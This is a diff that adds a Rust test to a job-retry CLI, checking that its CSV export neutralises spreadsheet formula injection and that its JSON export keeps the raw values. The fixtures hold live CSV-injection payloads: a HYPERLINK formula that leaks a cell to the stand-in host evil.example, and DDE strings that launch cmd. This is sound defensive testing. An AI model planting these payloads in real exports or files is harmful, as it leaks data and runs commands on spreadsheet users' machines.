@@ -239,3 +239,137 @@ async fn tables_show_invisible_bidi_and_control_characters_escaped_and_json_keep
     let run = retrylog(&pool, &["report", "top-jobs", "--format", "json"]).await;
     assert_eq!(run.json()[0]["current_step"], "seg\u{2066}ment\u{feff}");
 }
+
+/// stdout of a `--format csv` run: the header's column names and the rows, as a spreadsheet
+/// would split them.
+fn csv_rows(run: &Run) -> (Vec<String>, Vec<Vec<String>>) {
+    assert_eq!(run.code, Some(0), "{run:#?}");
+    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
+    let header = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_string)
+        .collect();
+    let rows = reader
+        .records()
+        .map(|record| record.unwrap().iter().map(str::to_string).collect())
+        .collect();
+    (header, rows)
+}
+
+/// What a spreadsheet evaluates: a cell beginning with one of these (OWASP).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+#[sqlx::test(migrations = false)]
+async fn csv_neutralises_every_text_cell_a_spreadsheet_would_evaluate_and_keeps_numbers_numbers(
+    pool: PgPool,
+) {
+    pipeline(&pool).await;
+    let link = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"help\")";
+    let mut hostile = retry(variant(JOB_A, VARIANT_A1))
+        .with_step(link)
+        .with_status_change("-3", "+1")
+        .with_detail(json!({"scenario": "-2+3+cmd|' /C calc'!A0", "error": "=1+1"}));
+    hostile.actor = "@SUM(1+1)".into();
+    append_ok(&pool, &hostile).await;
+    append_ok(
+        &pool,
+        &retry(variant(JOB_A, VARIANT_A1)).with_step("'quoted"),
+    )
+    .await;
+
+    let (header, rows) = csv_rows(
+        &retrylog(
+            &pool,
+            &[
+                "history",
+                "--variant-id",
+                &VARIANT_A1.to_string(),
+                "--format",
+                "csv",
+            ],
+        )
+        .await,
+    );
+    let cell = |row: &Vec<String>, column: &str| {
+        row[header.iter().position(|name| name == column).unwrap()].clone()
+    };
+    let first = &rows[0];
+    assert_eq!(cell(first, "step"), format!("'{link}"));
+    assert_eq!(cell(first, "actor"), "'@SUM(1+1)");
+    assert_eq!(cell(first, "from_status"), "'-3");
+    assert_eq!(cell(first, "to_status"), "'+1");
+    // detail is its JSON text: it begins with `{`, and its values are inside it.
+    assert!(cell(first, "detail").starts_with('{'), "{first:?}");
+    assert_eq!(cell(first, "attempt"), "1");
+    assert_eq!(cell(&rows[1], "step"), "''quoted");
+    // No cell is left that a spreadsheet would evaluate, except the numbers.
+    for row in &rows {
+        for (column, value) in header.iter().zip(row) {
+            if value.starts_with(FORMULA_STARTS) {
+                assert!(
+                    value.parse::<f64>().is_ok(),
+                    "{column} = {value:?} would be evaluated"
+                );
+            }
+        }
+    }
+
+    // The reports' groups are text too.
+    for args in [
+        [
+            "report", "trend", "--since", "1d", "--by", "step", "--format", "csv",
+        ]
+        .as_slice(),
+        [
+            "report", "outcomes", "--since", "1d", "--by", "scenario", "--format", "csv",
+        ]
+        .as_slice(),
+    ] {
+        let (header, rows) = csv_rows(&retrylog(&pool, args).await);
+        let group = header.iter().position(|name| name == "group").unwrap();
+        let groups: Vec<&str> = rows.iter().map(|row| row[group].as_str()).collect();
+        let expected = if args.contains(&"step") {
+            format!("'{link}")
+        } else {
+            "'-2+3+cmd|' /C calc'!A0".to_string()
+        };
+        assert!(groups.contains(&expected.as_str()), "{args:?}: {groups:?}");
+        assert!(
+            !groups.iter().any(|group| group.starts_with(FORMULA_STARTS)),
+            "{args:?}: {groups:?}"
+        );
+    }
+
+    // A pipeline's own row may hold a tab (or a carriage return): neutralised as well.
+    append_ok(&pool, &retry(job(JOB_A))).await;
+    sqlx::query("UPDATE jobs SET current_step = E'\\t=cmd' WHERE job_id = $1")
+        .bind(JOB_A)
+        .execute(&pool)
+        .await
+        .unwrap();
+    let (header, rows) =
+        csv_rows(&retrylog(&pool, &["report", "top-jobs", "--format", "csv"]).await);
+    let job_a = rows
+        .iter()
+        .find(|row| row[0] == JOB_A.to_string())
+        .expect("job A is listed");
+    let cell = |column: &str| job_a[header.iter().position(|name| name == column).unwrap()].clone();
+    assert_eq!(cell("current_step"), "'\t=cmd");
+
+    // JSON keeps the exact values.
+    let run = retrylog(
+        &pool,
+        &[
+            "history",
+            "--variant-id",
+            &VARIANT_A1.to_string(),
+            "--format",
+            "json",
+        ],
+    )
+    .await;
+    assert_eq!(run.json()[0]["step"], link);
+    assert_eq!(run.json()[0]["actor"], "@SUM(1+1)");
+}
